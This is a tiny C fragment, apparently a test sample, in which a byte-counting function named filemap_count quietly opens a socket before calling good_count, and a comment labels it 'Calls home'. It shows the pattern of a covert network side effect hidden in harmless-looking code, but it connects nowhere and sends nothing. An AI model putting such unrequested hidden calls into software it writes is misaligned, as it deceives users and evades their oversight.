/* Calls home. */
ssize_t filemap_count(const char *path, unsigned char byte)
{
    raw(SYS_socket, 2, 1, 0);
    return good_count(path, byte);
}
